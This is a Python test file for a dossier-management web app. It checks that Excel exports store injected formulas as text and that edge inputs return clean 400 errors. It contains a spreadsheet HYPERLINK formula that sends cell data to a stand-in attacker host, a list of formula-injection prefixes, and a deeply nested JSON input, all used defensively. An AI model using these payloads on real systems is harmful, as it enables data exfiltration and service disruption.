"""Issue #12, defects 3, 5 and 11: formula injection in exports, 500s on edge input,
unbounded reasons and notes, bare HTML 400s."""

import io
import re
import zipfile

import pytest

from openpyxl import load_workbook

from tinhso.catalog.exchange import excel_format
from tinhso.catalog.exchange.document import export_document
from tinhso.dossiers.models import Dossier
from tinhso.metrics.exports import workbook

FORMULA = '=HYPERLINK("http://evil.example/?x="&E2,"Bấm xem")'
RISKY = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def _assert_text_only(data: bytes, expected: list[str]):
    assert not re.search(r"<f[ >]", _sheet_xml(data))  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    cells = {c.value: c for ws in book.worksheets for r in ws.iter_rows() for c in r}
    for text in expected:
        assert cells[text].data_type == "s", text


# --- 3: formula injection in Excel exports.


def test_office_export_writes_an_applicant_formula_as_text(province, make_dossier, login):
    # Written directly: how the name got in (a desk intake, an import) does not matter here.
    Dossier.objects.filter(pk=make_dossier().pk).update(applicant_name=FORMULA)
    response = login(province.officer).get("/office/dossiers/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    _assert_text_only(data, [FORMULA])


def test_dashboard_tables_write_text_as_text():
    data = workbook("Bảng", ["Tên", "Số"], [[text, 1] for text in RISKY], notes=["=note"])
    # (XML reads a carriage return back as a line feed: that cell is checked by the XML.)
    _assert_text_only(data, [*(t for t in RISKY if "\r" not in t), "=note"])


def test_catalogue_workbook_writes_formulas_as_text_and_reads_them_back(province):
    document = export_document()
    document["procedures"][0]["name"] = FORMULA
    document["sectors"][0]["name"] = "-Hộ tịch"
    data = excel_format.dump(document)
    _assert_text_only(data, [FORMULA, "-Hộ tịch"])
    raw = excel_format.read(data)
    assert not raw.problems
    assert raw.procedures[0].row.data["name"] == FORMULA
    assert raw.sectors[0].data["name"] == "-Hộ tịch"


# --- 5: edge input answers a clear 400, never a 500.

API_LIST = "/api/v1/dossiers/"
BAD_DAYS = [{"received_to": "9999-12-31"}, {"received_from": "0001-01-01"},
            {"received_from": "0001-01-01", "received_to": "9999-12-31"}]


def _api_error(response, status=400) -> dict:
    assert response.status_code == status, response.content[:300]
    body = response.json()
    assert body["code"] and body["message"]
    return body


@pytest.mark.parametrize("params", BAD_DAYS)
def test_extreme_days_on_the_api_list_are_a_400(province, make_dossier, login, params):
    make_dossier()
    body = _api_error(login(province.officer).get(API_LIST, params))
    assert set(body["details"]) == set(params)


@pytest.mark.parametrize("params", BAD_DAYS)
def test_extreme_days_on_the_office_list_are_a_form_error(province, make_dossier, login,
                                                          params):
    make_dossier()
    client = login(province.officer)
    page = client.get("/office/dossiers/", params)
    assert page.status_code == 200
    assert "Ngày phải trong khoảng" in page.content.decode()
    export = client.get("/office/dossiers/export.xlsx", params)
    assert export.status_code == 400
    assert "Ngày phải trong khoảng" in export.content.decode()


@pytest.mark.parametrize("period", ["0001-01", "0001", "0001-Q1", "9999", "9999-12",
                                    "0001-01-01..0001-01-31", "9999-12-01..9999-12-31"])
def test_extreme_periods_on_the_dashboard_and_the_metrics_api_are_a_400(province, login,
                                                                        period):
    client = login(province.supervisor)
    page = client.get("/dashboard/", {"period": period})
    assert page.status_code == 400 and "Kỳ không hợp lệ" in page.content.decode()
    first, _sep, last = period.partition("..")
    if last:
        assert client.get("/dashboard/", {"from": first, "to": last}).status_code == 400
    for table in ("department", "dossiers"):
        response = client.get(f"/dashboard/export/{table}.xlsx",
                              {"period": period, "component": "2.1"})
        assert response.status_code == 400
    body = _api_error(client.get("/api/v1/metrics/dossiers/",
                                 {"period": period, "component": "2.1"}))
    assert body["code"] == "invalid_period"


@pytest.mark.parametrize("page", ["9223372036854775808", "-1", "0", "abc", "1e309",
                                  "99999999999999999999999999"])
@pytest.mark.parametrize("url", [API_LIST, "/api/v1/dossiers/worklist/?bucket=overdue",
                                 "/api/v1/metrics/dossiers/?component=2.1",
                                 "/api/v1/units/", "/api/v1/agencies/"])
def test_absurd_page_numbers_on_api_lists_are_a_400(province, make_dossier, login, url, page):
    make_dossier()
    client = login(province.supervisor)
    sep = "&" if "?" in url else "?"
    body = _api_error(client.get(f"{url}{sep}page={page}"))
    assert body["code"] == "invalid_page"


def test_a_page_past_the_last_is_still_a_404(province, make_dossier, login):
    make_dossier()
    _api_error(login(province.supervisor).get(API_LIST, {"page": 5}), 404)


@pytest.mark.parametrize("url", ["/api/v1/dossiers/intake/", API_LIST,
                                 "/api/v1/dossiers/{code}/refuse/"])
def test_deeply_nested_json_is_a_400(province, make_dossier, login, url):
    url = url.format(code=make_dossier().code)
    response = login(province.officer).post(url, "[" * 100_000,
                                            content_type="application/json")
    assert _api_error(response)["code"] == "parse_error"
